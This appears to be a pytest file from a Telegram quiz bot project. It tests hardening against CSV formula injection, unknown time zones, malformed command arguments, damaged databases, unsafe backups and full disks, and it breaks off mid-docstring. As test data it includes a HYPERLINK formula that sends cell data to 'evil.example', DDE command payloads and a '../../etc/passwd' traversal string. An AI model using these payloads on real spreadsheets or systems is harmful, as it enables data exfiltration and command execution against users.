"""Operations (issue 14): what an operator or a crafty player could trip, each case tried.

Spreadsheet formulas in every CSV we write; stored time zones the host does not know;
command numbers in other scripts and out of range; damaged databases under ``quizbot run``
and ``quizbot health`` alike; ``quizbot backup`` onto the live database; the webhook secret
in DEBUG logs; answers a full disk could not store.
"""

from __future__ import annotations

import csv
import io
import itertools
import logging
import re
import sqlite3
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from bot.config import Settings
from bot.contest_views import results_csv
from bot.csvfile import FORMULA_STARTS, to_csv
from bot.domain.contest import PlayerScore
from bot.stats import BankStats, QuestionStats, stats_csv, unanswered_csv
from bot.storage.db import Database
from bot.storage.sqlite import SqliteDatabase
from bot.storage.stats_store import Unanswered
from tests.conftest import SAMPLE_BANKS, FakeClock, FakeScheduler, running_bot
from tests.fakebotapi import FakeBotApi, TgUser
from tests.helpers import REPO, data_env, run_cli
from tests.players import GroupPlayer, Player

GROUP = -100777
ADMIN = TgUser(1, "Admin", "boss")
EVIL = TgUser(66, '=HYPERLINK("http://evil.example/?d="&B2,"Click for prize")')
ANN = TgUser(11, "Ann", "ann")
DDE = "=cmd|' /C calc'!A0"


class ErrorLog(logging.Handler):
    """Every record at ERROR or above, from any logger."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)

    @property
    def messages(self) -> list[str]:
        return [r.getMessage()[:300] for r in self.records]


@pytest.fixture
def errors() -> Iterator[ErrorLog]:
    handler = ErrorLog()
    logging.getLogger().addHandler(handler)
    try:
        yield handler
    finally:
        logging.getLogger().removeHandler(handler)


def read_csv(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would run: a cell starting a formula that is not a plain number."""
    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)


# --- CSV: formula cells ----------------------------------------------------------------


def test_every_csv_writer_neutralises_formula_cells() -> None:
    """Each writer, fed the six starts OWASP lists: no cell starts a formula; numbers stay."""
    nasty = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    results = results_csv(
        [PlayerScore(i, name, name, -250, 0, 1, 1500, float(i)) for i, name in enumerate(nasty)]
    )
    stats = stats_csv(
        [
            BankStats(
                name,
                name,
                [
                    QuestionStats(
                        name, name, name, 5, 2, 1.5, (1, 2), frozenset({0}), ("misleading",)
                    )
                ],
            )
            for name in nasty
        ]
    )
    unanswered = unanswered_csv([Unanswered(name, 3, 1.0) for name in nasty])
    for content in (results, stats, unanswered):
        rows = read_csv(content)
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if runs_as_formula(c)], cells
        assert any(c == "'=1+1" for c in cells)  # the text is kept, behind an apostrophe
    scores = [row[4] for row in read_csv(results)[1:]]
    assert scores == ["-250"] * len(nasty)  # a negative number is a number, not a formula


def test_to_csv_leaves_ordinary_text_alone() -> None:
    rows = read_csv(to_csv(["a"], [["网购 7 日", "a=b", "1-2", 3, -4, 0.5, "'quoted"]]))
    assert rows[1] == ["网购 7 日", "a=b", "1-2", "3", "-4", "0.5", "'quoted"]


def test_nothing_else_writes_csv() -> None:
    """Every CSV goes through bot/csvfile.py, so its neutralising covers them all."""
    writers = [
        str(path.relative_to(REPO))
        for path in (REPO / "bot").rglob("*.py")
        if path.name != "csvfile.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == []


async def test_results_csv_from_the_chat_and_the_command_line_run_no_formula(
    api: FakeBotApi, settings: Settings, clock: FakeClock, scheduler: FakeScheduler
) -> None:
    api.admins[GROUP] = {ADMIN.id}
    admin, evil = GroupPlayer(api, ADMIN, GROUP), GroupPlayer(api, EVIL, GROUP)
    async with running_bot(api, settings, clock, scheduler) as (_app, runtime):
        await admin.say("/contest 网购 1 10 negative")
        await admin.say("/go")
        await evil.contest_answer(runtime.engine.catalogue, right=False)  # -250 points
        await scheduler.advance(30)
        private = Player(api, ADMIN)
        (menu,) = await private.say("/results")
        pick = menu["reply_markup"]["inline_keyboard"][0][0]["callback_data"]
        await private.press(private.last()[0], pick)
        (document,) = await api.wait_calls("sendDocument", 1, ADMIN.id)
    from_chat = read_csv(document.files["document"][1])
    out = run_cli("results", "export", "1", env=data_env(settings.data_dir, settings.database_url))
    from_cli = read_csv(out.stdout)
    assert from_chat == from_cli
    (row,) = from_chat[1:]
    assert row[2] == "'" + EVIL.first_name  # shown as text, never run
    assert row[4] == "-250"  # the negative score is still a number


async def test_unanswered_csv_runs_no_formula(api: FakeBotApi, settings: Settings) -> None:
    asker = Player(api, TgUser(501, "Asker"))
    texts = [DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0"]
    async with running_bot(api, settings):
        for text in texts:
            await asker.say(text)
    env = {
        **data_env(settings.data_dir, settings.database_url),
        "QUIZBOT_QUESTIONS_DIR": str(settings.questions_dir),
    }
    rows = read_csv(run_cli("faq", "unanswered", "--csv", env=env).stdout)
    queries = sorted(row[0] for row in rows[1:])
    assert queries == sorted("'" + text for text in texts)


async def test_stats_csv_from_the_chat_and_the_command_line_run_no_formula(
    api: FakeBotApi, settings: Settings, clock: FakeClock, banks: Path
) -> None:
    from tests.test_organizer import answer_single

    bank = banks / "sample.yaml"
    formula = '=HYPERLINK("http://evil.example","网购")'
    original = "网购商品（非除外商品）一般可以自收到商品之日起几日内无理由退货？"
    quoted = (formula + original).replace("'", "''")
    bank.write_text(
        bank.read_text("utf-8").replace(f"text: {original}", f"text: '{quoted}'"), "utf-8"
    )
    organizer = TgUser(500, "Org")
    settings = replace(settings, questions_dir=banks, admins=frozenset({organizer.id}))
    async with running_bot(api, settings, clock) as (_app, runtime):
        await answer_single(runtime, 700, "B", seconds=2)
        await Player(api, organizer).say("/stats")
        (document,) = await api.wait_calls("sendDocument", 1, organizer.id)
    env = {
        **data_env(settings.data_dir, settings.database_url),
        "QUIZBOT_QUESTIONS_DIR": str(banks),
    }
    for rows in (
        read_csv(document.files["document"][1]),
        read_csv(run_cli("stats", "--csv", env=env).stdout),
    ):
        (row,) = rows[1:]
        assert row[-1].startswith("'" + formula)
        assert not [c for c in row if runs_as_formula(c)]


def test_bank_export_keeps_a_leading_equals_sign_as_text() -> None:
    """openpyxl stores text starting with = as a formula; the export writes it as text."""
    from openpyxl import load_workbook

    from bot.banks.exporter import bank_to_xlsx
    from bot.banks.loader import load_banks

    bank = load_banks([SAMPLE_BANKS]).catalogue.banks[0]
    question = bank.questions[0]
    evil = replace(question, text='=HYPERLINK("http://evil.example","x")')
    sheet = load_workbook(io.BytesIO(bank_to_xlsx(replace(bank, questions=(evil,))))).active
    cell = sheet.cell(row=2, column=3)
    assert cell.value == evil.text and cell.data_type == "s"


# --- time zones ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "accepted"),
    [
        ("Asia/Shanghai", "Asia/Shanghai"),
        ("asia/shanghai", "Asia/Shanghai"),
        ("America/Argentina/Buenos_Aires", "America/Argentina/Buenos_Aires"),
        ("UTC", "UTC"),
        ("utc", "UTC"),
        ("localtime", None),
        ("posixrules", None),
        ("Factory", None),
        ("EST5EDT", None),
        ("US/Eastern", None),
        ("Etc/GMT+8", None),
        ("PRC", None),
        ("Mars/Olympus_Mons", None),
        ("../../etc/passwd", None),
        ("Asia/Shanghai\x00", None),
        ("Ａｓｉａ/Ｓｈａｎｇｈａｉ", None),
        ("", None),
        ("A" * 5000, None),
    ],
)
def test_only_canonical_area_city_zones_and_utc_are_accepted(
    name: str, accepted: str | None
) -> None:
    from bot.domain.timezones import canonical_zone

    assert canonical_zone(name) == accepted


def test_a_host_zone_in_the_settings_is_refused(tmp_path: Path) -> None:
    result = run_cli("faq", "ask", "x", env={"QUIZBOT_TIMEZONE": "localtime"})
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "quizbot: QUIZBOT_TIMEZONE: 'localtime' is not a time zone this host knows "
        "(give an Area/City name such as Asia/Shanghai, or UTC)"
    )


async def test_subscribe_and_timezone_take_only_zones_every_host_knows(
    api: FakeBotApi, settings: Settings, clock: FakeClock, scheduler: FakeScheduler
) -> None:
    api.admins[GROUP] = {ADMIN.id}
    me, group = Player(api, ANN), GroupPlayer(api, ADMIN, GROUP)
    async with running_bot(api, settings, clock, scheduler) as (_app, runtime):
        (host,) = await me.say("/subscribe 08:00 localtime")
        (factory,) = await group.say("/timezone Factory")
        (lower,) = await me.say("/subscribe 08:00 asia/tokyo")
        (zone_set,) = await group.say("/timezone europe/london")
        stored = await runtime.db.fetchall("SELECT chat_id, timezone FROM subscriptions")
        groups = await runtime.db.fetchall(
            "SELECT timezone FROM groups WHERE chat_id = ?", (GROUP,)
        )
    assert host["text"].startswith("不认识时区“localtime”：请写成“地区/城市”的形式")
    assert "用法：/subscribe 08:00" in host["text"]
    assert factory["text"] == "不认识时区“Factory”，请写成 Asia/Shanghai 这样。"
    assert "每天 08:00（Asia/Tokyo）" in lower["text"]
    assert zone_set["text"] == "本群时区已设为 Europe/London。"
    assert [tuple(r) for r in stored] == [(ANN.id, "Asia/Tokyo")]  # the canonical spelling
    assert [r["timezone"] for r in groups] == ["Europe/London"]


def store_unknown_zones(settings: Settings) -> None:
    """What an older version (or another host's tz database) left in the database."""
    import asyncio

    from bot.storage.db import open_database

    async def prepare() -> None:
        db = open_database(settings.database_target)
        await db.open()
        try:
            await db.execute("INSERT INTO users (id, name, created_at) VALUES (11, 'Ann', 0)")
            await db.executemany(
                "INSERT INTO subscriptions (chat_id, user_id, at, timezone, language, created_at)"
                " VALUES (?, 11, ?, ?, 'zh', 0)",
                [(11, "08:00", "localtime"), (12, "09:30", "Mars/Olympus_Mons")],
            )
            await db.execute(
                "INSERT INTO groups (chat_id, title, timezone) VALUES (?, 'G', 'posixrules')",
                (GROUP,),
            )
        finally:
            await db.close()

    asyncio.run(prepare())


def test_unknown_stored_zones_never_stop_the_bot(
    settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    """Stored directly in the database, then the bot starts (its JobQueue, as in production)."""
    import asyncio
    import datetime as dtm

    store_unknown_zones(settings)
    caplog.set_level(logging.WARNING)

    async def scenario() -> tuple[list[object], str, str]:
        async with FakeBotApi() as api:
            api.admins[GROUP] = {ADMIN.id}
            async with running_bot(api, settings) as (app, _runtime):
                (welcome,) = await Player(api, ANN).say("/start")
                (announce,) = await GroupPlayer(api, ADMIN, GROUP).say("/contest 1 10 at 20:00")
                assert app.job_queue is not None
                jobs = [
                    job
                    for name in ("daily:11", "daily:12")
                    for job in app.job_queue.get_jobs_by_name(name)
                ]
                times = [job.next_t.astimezone(dtm.UTC).strftime("%H:%M") for job in jobs]
        return times, welcome["text"], announce["text"]

    times, welcome, announce = asyncio.run(scenario())
    assert "Ann" in welcome  # the bot started and answers
    assert times == ["00:00", "01:30"]  # 08:00 and 09:30 in Asia/Shanghai, the default
    assert "20:00" in announce  # the group's contest, in the default zone
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    zone_lines = [w for w in warnings if "is unknown here" in w]
    assert sorted(zone_lines) == sorted(
        [
            "chat 11: its daily question's time zone 'localtime' is unknown here; "
            "delivering at 08:00 Asia/Shanghai instead",
            "chat 12: its daily question's time zone 'Mars/Olympus_Mons' is unknown here; "
            "delivering at 09:30 Asia/Shanghai instead",
            f"group {GROUP}: its time zone 'posixrules' is unknown here; using Asia/Shanghai",
        ]
    )  # each once
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


# --- command arguments -------------------------------------------------------------------


NOW = 1_767_225_600.0  # 2026-01-01 08:00 in Shanghai


@pytest.mark.parametrize(
    ("args", "key"),
    [
        (["-5", "10"], "contest_bad_number"),
        (["²", "10"], "contest_bad_number"),
        (["10", "２０"], "contest_bad_number"),
        (["١٠"], "contest_bad_number"),
        (["1.5"], "contest_bad_number"),
        (["99999999999999999999999"], "contest_bad_count"),
        (["0"], "contest_bad_count"),
        (["10", "9"], "contest_bad_seconds"),
        (["10", "301"], "contest_bad_seconds"),
        (["lobby=9999"], "contest_bad_lobby"),
        (["lobby=²"], "contest_bad_lobby"),
        (["lobby=-1"], "contest_bad_lobby"),
        (["等待=abc"], "contest_bad_lobby"),
        (["25:00"], "contest_bad_time"),
        (["²:00"], "contest_bad_time"),
        (["at", "8点"], "contest_bad_time"),
        (["1", "10", "20"], "contest_usage"),
    ],
)
def test_contest_arguments_out_of_range_or_malformed_are_refused(
    args: list[str], key: str
) -> None:
    from bot.domain.contest import ParseError, parse_contest_args

    with pytest.raises(ParseError) as caught:
        parse_contest_args(args, NOW, "Asia/Shanghai")
    assert caught.value.key == key


def test_contest_arguments_still_read_as_documented() -> None:
    from bot.domain.contest import parse_contest_args

    settings, schedule = parse_contest_args(
        "征信 15 30 poll 扣分 lobby=30 at 20:00".split(), NOW, "Asia/Shanghai"
    )
    assert (settings.topic, settings.count, settings.seconds) == ("征信", 15, 30)
    assert (settings.polls, settings.negative, settings.lobby_seconds) == (True, True, 30)
    assert schedule is not None and schedule.starts_at == NOW + 12 * 3600
    assert parse_contest_args(["等待60"], NOW, "UTC")[0].lobby_seconds == 60
    assert parse_contest_args(["三包"], NOW, "UTC")[0].topic == "三包"


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["08:00"], (8, 0, "Asia/Shanghai")),
        (["23：59", "utc"], (23, 59, "UTC")),
        (["off"], None),
        (["²:00"], "subscribe_usage"),
        (["８:00"], "subscribe_usage"),
        (["24:00"], "subscribe_usage"),
        (["8:5"], "subscribe_usage"),
        (["-1:00"], "subscribe_usage"),
        ([], "subscribe_usage"),
        (["08:00", "Asia/Shanghai", "x"], "subscribe_usage"),
        (["08:00", "localtime"], "subscribe_bad_zone"),
    ],
)
def test_subscribe_arguments(args: list[str], expected: object) -> None:
    from bot.domain.args import UsageError, parse_subscribe

    if isinstance(expected, str):
        with pytest.raises(UsageError) as caught:
            parse_subscribe(args, "Asia/Shanghai")
        assert caught.value.key == expected
        return
    wanted = parse_subscribe(args, "Asia/Shanghai")
    assert (None if wanted is None else (wanted.hour, wanted.minute, wanted.timezone)) == expected


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("7", 7),
        ("007", 7),
        ("0", None),
        ("51", None),
        ("²", None),
        ("٧", None),
        ("７", None),
        ("+7", None),
        (" 7", None),
        ("9" * 5000, None),  # int() of so many digits raises; this must not
        ("", None),
    ],
)
def test_bounded_numbers_are_ascii_digits_in_range(text: str, value: int | None) -> None:
    from bot.domain.args import bounded

    assert bounded(text, 1, 50) == value


def test_chart_and_timezone_arguments() -> None:
    from bot.domain.args import UsageError, parse_chart, parse_timezone

    assert parse_chart([]) is None and parse_chart(["12"]) == 12
    assert parse_timezone([]) is None and parse_timezone(["asia/tokyo"]) == "Asia/Tokyo"
    for bad in (["²"], ["99999999999999999999999"], ["0"], ["-3"], ["1", "2"], ["abc"]):
        with pytest.raises(UsageError, match="chart_usage"):
            parse_chart(bad)
    with pytest.raises(UsageError, match="timezone_usage"):
        parse_timezone(["Asia/Shanghai", "now"])
    with pytest.raises(UsageError, match="timezone_bad"):
        parse_timezone(["posixrules"])


async def test_the_reported_arguments_get_their_usage_and_no_error(
    api: FakeBotApi,
    settings: Settings,
    clock: FakeClock,
    scheduler: FakeScheduler,
    errors: ErrorLog,
) -> None:
    """The cases of the report: each a reply with the command's usage, none an ERROR."""
    api.admins[GROUP] = {ADMIN.id}
    settings = replace(settings, admins=frozenset({ADMIN.id}))
    me, group = Player(api, ADMIN), GroupPlayer(api, ADMIN, GROUP)
    async with running_bot(api, settings, clock, scheduler) as (_app, runtime):
        replies = {
            "/subscribe ²:00": (await me.say("/subscribe ²:00"))[0]["text"],
            "/chart ²": (await me.say("/chart ²"))[0]["text"],
            "/chart 9…": (await me.say("/chart 99999999999999999999999"))[0]["text"],
            "/quiz -5": (await me.say("/quiz -5"))[0]["text"],
            "/contest ² 10": (await group.say("/contest ² 10"))[0]["text"],
            "/contest -5 10": (await group.say("/contest -5 10"))[0]["text"],
            "/contest 5 10 lobby=9999": (await group.say("/contest 5 10 lobby=9999"))[0]["text"],
        }
        contests = await runtime.db.fetchall("SELECT id FROM contests")
    usage = {
        "/subscribe ²:00": "用法：/subscribe 08:00",
        "/chart ²": "用法：/chart [竞赛编号]",
        "/chart 9…": "用法：/chart [竞赛编号]",
        "/quiz -5": "用法：/quiz [专题]",
        "/contest ² 10": "“²”不是题数或秒数",
        "/contest -5 10": "“-5”不是题数或秒数",
        "/contest 5 10 lobby=9999": "等待时间应在 0 到 600 秒之间。",
    }
    for command, start in usage.items():
        assert replies[command].startswith(start), (command, replies[command])
    for command in ("/contest ² 10", "/contest -5 10", "/contest 5 10 lobby=9999"):
        assert "用法：/contest [专题]" in replies[command]
    assert contests == []  # no contest started on topic #5, nor any other
    assert errors.messages == []


ARGUMENT_TOKENS = [
    "²",
    "²:00",
    "-5",
    "+3",
    "0",
    "1",
    "10",
    "50",
    "51",
    "１０",
    "٣",
    "𐩀",
    "五",
    "1.5",
    "99999999999999999999999",
    "9" * 3000,
    "lobby=9999",
    "lobby=²",
    "等待=",
    "at",
    "25:00",
    "20:00",
    "off",
    "poll",
    "扣分",
    "en",
    "zh",
    "localtime",
    "Factory",
    "Asia/Shanghai",
    "征信",
    "=1+1",
    "\u202e",
    "\x00",
    "{timezone}",
    "😀" * 30,
]


#: Counts the examples of command_reply_scenario (see its clock).
EXAMPLES = itertools.count()


def command_reply_scenario(
    argument: str, tmp: Path, database_url: str | None
) -> tuple[list[str], list[str]]:
    """Every command of the table, with ``argument``, wherever it works, each in a chat of
    its own (sent at once); returns the (command, place) pairs without a reply, and the
    ERROR records logged. (On PostgreSQL the examples of one test share its database.)"""
    import asyncio

    from bot import commands
    from bot.commands import Where

    places: list[tuple[str, int, TgUser]] = []
    for number, entry in enumerate(commands.COMMANDS):
        user = TgUser(2000 + number, f"P{number}")
        if entry.where & (Where.PRIVATE | Where.ORGANIZER):
            places.append((entry.name, user.id, user))
        if entry.where & (Where.GROUP | Where.ADMIN):
            places.append((entry.name, -1_000_000 - number, user))
    settings = Settings(
        data_dir=tmp,
        questions_dir=SAMPLE_BANKS,
        flood_limit=1000,
        admins=frozenset(user.id for _n, _c, user in places),
        database_url=database_url,
    )
    replied = ("sendMessage", "sendPhoto", "sendDocument", "sendPoll")
    log = ErrorLog()
    logging.getLogger().addHandler(log)

    async def scenario() -> list[str]:
        # Each example a few minutes after the last: on PostgreSQL the examples share the
        # test's database, and with it the groups' message budgets of the last minute.
        clock = FakeClock(NOW + 300 * next(EXAMPLES))
        async with FakeBotApi(clock=clock.now) as api:
            for _name, chat_id, user in places:
                if chat_id < 0:
                    api.admins[chat_id] = {user.id}
            async with running_bot(api, settings, clock, FakeScheduler(clock)):
                for name, chat_id, user in places:
                    api.send_text(user, f"/{name} {argument}", chat_id)

                def answered(chat_id: int) -> bool:
                    return any(c.chat_id == chat_id and c.method in replied for c in api.calls)

                try:
                    await api.wait_for(lambda a: all(answered(c) for _n, c, _u in places), 30)
                except TimeoutError:
                    pass
                return [
                    f"/{name} in {'group' if chat_id < 0 else 'private'}"
                    for name, chat_id, _user in places
                    if not answered(chat_id)
                ]

    try:
        silent = asyncio.run(scenario())
    finally:
        logging.getLogger().removeHandler(log)
    return silent, log.messages


def test_every_command_with_the_reported_arguments_replies(
    tmp_path: Path, database_url: str | None
) -> None:
    """A fixed run of the property below, with the arguments of the report."""
    silent, logged = command_reply_scenario(
        "² 10 -5 99999999999999999999999", tmp_path, database_url
    )
    assert silent == [] and logged == []


#: Arguments: a few tokens, each one of the above or any short Unicode text.
ARGUMENTS = st.lists(
    st.one_of(
        st.sampled_from(ARGUMENT_TOKENS),
        st.text(
            alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)),
            min_size=1,
            max_size=12,
        ),
    ),
    min_size=1,
    max_size=5,
).map(" ".join)


@hypothesis_settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(ARGUMENTS)
def test_every_command_replies_to_any_arguments(
    tmp_path_factory: pytest.TempPathFactory, database_url: str | None, argument: str
) -> None:
    """Arbitrary Unicode arguments to every command, through the real bot: each command
    replies where it works, and nothing is logged at ERROR."""
    silent, logged = command_reply_scenario(
        argument, tmp_path_factory.mktemp("args"), database_url
    )
    assert silent == [], (argument, silent)
    assert logged == [], (argument, logged)


# --- damaged databases: `quizbot run` and `quizbot health` agree -------------------------


def healthy_database(data: Path, rows: int = 0) -> Path:
    """A quizbot database as the bot leaves it (WAL mode, every migration), with ``rows``
    FAQ queries in it."""
    from bot.storage.migrations import MIGRATIONS

    data.mkdir(parents=True, exist_ok=True)
    path = data / "quizbot.sqlite3"
    conn = sqlite3.connect(path, isolation_level=None)
    try:
        conn.execute("PRAGMA journal_mode=WAL")
        for version, statements in enumerate(MIGRATIONS, start=1):
            for statement in statements:
                conn.execute(statement)
            conn.execute(f"PRAGMA user_version = {version}")
        conn.execute("BEGIN")
        conn.execute("INSERT INTO users (id, name, created_at) VALUES (1, 'Ann', 0)")
        conn.executemany(
            "INSERT INTO faq_queries (text, normalised, language, outcome, score, asked_at)"
            " VALUES (?, ?, 'zh', 'unanswered', 0, 0)",
            [(f"问题 {n} " + "长" * 300, f"问题{n}") for n in range(rows)],
        )
        conn.execute("COMMIT")
    finally:
        conn.close()
    return path


def not_a_database(data: Path) -> None:
    data.mkdir(parents=True)
    (data / "quizbot.sqlite3").write_bytes(b"this is not a database" * 100)


def garbage_pages(data: Path) -> None:
    """Pages of the FAQ log in the middle of the file overwritten; the users table intact
    (so reading user_version and counting users, the old health check, still works)."""
    path = healthy_database(data, rows=400)
    raw = bytearray(path.read_bytes())
    page = 4096
    middle = len(raw) // page // 2
    raw[middle * page : (middle + 3) * page] = b"\xff" * (3 * page)
    path.write_bytes(bytes(raw))


def empty_file(data: Path) -> None:
    data.mkdir(parents=True)
    (data / "quizbot.sqlite3").touch()


def newer_schema(data: Path) -> None:
    from bot.storage.db import SCHEMA_VERSION

    path = healthy_database(data)
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    conn.close()


def read_only_folder(data: Path) -> None:
    healthy_database(data)
    data.chmod(0o555)


def read_only_file(data: Path) -> None:
    healthy_database(data).chmod(0o444)


def unprivileged() -> object:
    """For a child process: without root's power to ignore file modes (as the Docker image's
    user runs). Root keeps its uid but loses CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH."""
    import ctypes
    import os

    if os.geteuid() != 0:
        return None
    libc = ctypes.CDLL(None, use_errno=True)

    def drop() -> None:
        for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
            if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
                raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")

    return drop


async def run_bot_process(api: FakeBotApi, data: Path) -> tuple[int, str]:
    """``quizbot run`` on the fake Bot API, as the unprivileged user; its status and stderr."""
    import asyncio
    import sys

    from tests.helpers import bot_env

    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot",
        "run",
        env=bot_env(api, data, SAMPLE_BANKS),
        cwd=str(REPO),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        preexec_fn=unprivileged(),  # type: ignore[arg-type]
    )
    try:
        _out, err = await asyncio.wait_for(process.communicate(), 120)
    finally:
        if process.returncode is None:
            process.kill()
    assert process.returncode is not None
    return process.returncode, err.decode()


def health_process(data: Path) -> tuple[int, str]:
    import subprocess
    import sys

    from tests.helpers import clean_env

    result = subprocess.run(
        [sys.executable, "-m", "bot", "health"],
        env=clean_env(QUIZBOT_DATA_DIR=str(data)),
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=unprivileged(),  # type: ignore[arg-type]
    )
    return result.returncode, result.stderr + result.stdout


DAMAGED = {
    "not a database": (not_a_database, "is not a SQLite database", "restore the database from"),
    "garbage pages": (garbage_pages, "is damaged (", "restore it from a backup"),
    "0-byte file": (empty_file, "is empty (0 bytes) and holds no data", "delete the file"),
    "newer schema": (newer_schema, "newer than this quizbot's", "upgrade quizbot"),
    "read-only folder": (read_only_folder, "permission denied", "do not delete it"),
    "read-only file": (read_only_file, "permission denied", "do not delete it"),
}


@pytest.mark.parametrize("case", list(DAMAGED))
async def test_run_and_health_tell_the_same_cause_in_one_line(
    api: FakeBotApi, tmp_path: Path, case: str
) -> None:
    make, cause, advice = DAMAGED[case]
    data = tmp_path / "data"
    make(data)
    before = {p.name: p.read_bytes() for p in data.glob("quizbot.sqlite3*")}
    try:
        status, err = await run_bot_process(api, data)
        health_status, health = health_process(data)
        after = {name: (data / name).read_bytes() for name in before}
    finally:
        data.chmod(0o755)
    lines = [line for line in err.splitlines() if line.startswith("quizbot: ")]
    assert status == 1 and "Traceback" not in err, err
    assert len(lines) == 1 and cause in lines[0] and advice in lines[0], err
    assert health_status == 1
    assert health.strip() == lines[0].removeprefix("quizbot: ")  # the same words, exactly
    assert after == before  # nothing written, nothing lost
    if case.startswith("read-only"):
        assert "restore" not in lines[0] and "move" not in lines[0]


async def test_a_full_disk_at_start_up_is_told_as_such(api: FakeBotApi, tmp_path: Path) -> None:
    """Every write to the database file fails with ENOSPC (it is /dev/full)."""
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full here")
    data = tmp_path / "data"
    data.mkdir()
    (data / "quizbot.sqlite3").symlink_to("/dev/full")
    status, err = await run_bot_process(api, data)
    lines = [line for line in err.splitlines() if line.startswith("quizbot: ")]
    assert status == 1 and "Traceback" not in err, err
    assert len(lines) == 1 and ": the disk is full (" in lines[0], err
    assert "nothing stored was lost" in lines[0] and "restore" not in lines[0]
    health_status, _health = health_process(data)
    assert health_status == 1


async def test_a_healthy_database_passes_both(api: FakeBotApi, tmp_path: Path) -> None:
    """The same check passes what it should: the cases above fail for their cause only."""
    from bot.storage.db import SCHEMA_VERSION
    from bot.storage.sqlite import probe_database

    data = tmp_path / "data"
    healthy_database(data, rows=400)
    checked = probe_database(data / "quizbot.sqlite3")
    assert checked.version == SCHEMA_VERSION and checked.complete
    async with running_bot(api, Settings(data_dir=data, questions_dir=SAMPLE_BANKS)):
        (reply,) = await Player(api, ANN).say("/start")
    assert "Ann" in reply["text"]


def test_the_integrity_check_keeps_to_its_time_budget(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Past its budget the check stops and says so; the bot still starts."""
    import asyncio

    from bot.storage.sqlite import SqliteDatabase, check_database

    path = healthy_database(tmp_path / "data", rows=2000)
    assert check_database(path, budget=0.0).complete is False
    assert check_database(path).complete is True

    async def start() -> int:
        db = SqliteDatabase(path)
        await db.open(budget=0.0)
        try:
            return await db.version()
        finally:
            await db.close()

    caplog.set_level(logging.WARNING)
    assert asyncio.run(start()) > 0
    assert any("stopped after 0 s" in r.getMessage() for r in caplog.records)


async def test_a_real_full_disk_during_a_write_is_storage_full(tmp_path: Path) -> None:
    """SQLITE_FULL from SQLite itself (the file may not grow) becomes StorageFull."""
    from bot.storage.db import Cause, StorageFull
    from bot.storage.sqlite import SqliteDatabase

    db = SqliteDatabase(tmp_path / "q.sqlite3")
    await db.open()
    try:
        pages = (await db.fetchone("PRAGMA page_count"))[0]
        await db.conn.execute(f"PRAGMA max_page_count = {pages}")
        with pytest.raises(StorageFull) as caught:
            await db.execute(
                "INSERT INTO users (id, name, created_at) VALUES (5, ?, 0)", ("x" * 100_000,)
            )
        await db.execute("UPDATE users SET name = 'n' WHERE id = 5")  # the connection works on
        rows = await db.fetchall("SELECT id FROM users")
    finally:
        await db.close()
    assert caught.value.cause is Cause.FULL and "the disk is full" in str(caught.value)
    assert rows == []  # nothing of the failed write


# --- backups -------------------------------------------------------------------------------


def test_backup_refuses_the_live_database_and_reports_errors_in_one_line(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    live = healthy_database(data)
    (data / "link.sqlite3").symlink_to(live)
    before = live.read_bytes()
    env = {"QUIZBOT_DATA_DIR": str(data)}
    cases = {
        str(live): "is the live database",
        str(data / "quizbot.sqlite3-wal"): "is the live database",
        str(data / "link.sqlite3"): "is the live database",
        str(data / ".." / "data" / "quizbot.sqlite3"): "is the live database",
        "/proc/nope/x": "cannot write the backup /proc/nope/x: No such file or directory",
        str(tmp_path): "is a folder: give the backup a file name",
    }
    for target, said in cases.items():
        result = run_cli("backup", target, env=env)
        assert result.returncode == 1, target
        assert "Traceback" not in result.stderr
        assert result.stderr.count("\n") == 1 and said in result.stderr, result.stderr
    assert live.read_bytes() == before
    good = run_cli("backup", str(tmp_path / "copy.sqlite3"), env=env)
    assert good.returncode == 0, good.stderr


@pytest.mark.parametrize("case", ["not a database", "garbage pages", "0-byte file"])
def test_backup_of_a_damaged_database_says_what_start_up_says(tmp_path: Path, case: str) -> None:
    make, cause, _advice = DAMAGED[case]
    data = tmp_path / "data"
    make(data)
    result = run_cli("backup", str(tmp_path / "copy.sqlite3"), env={"QUIZBOT_DATA_DIR": str(data)})
    assert result.returncode == 1 and result.stderr.count("\n") == 1
    assert cause.split(" (")[0] in result.stderr, result.stderr
    assert not (tmp_path / "copy.sqlite3").exists()


# --- a full disk while answers arrive ----------------------------------------------------


class FullDisk:
    """Writes of answers fail as the database fails them when its disk is full (SQLite's
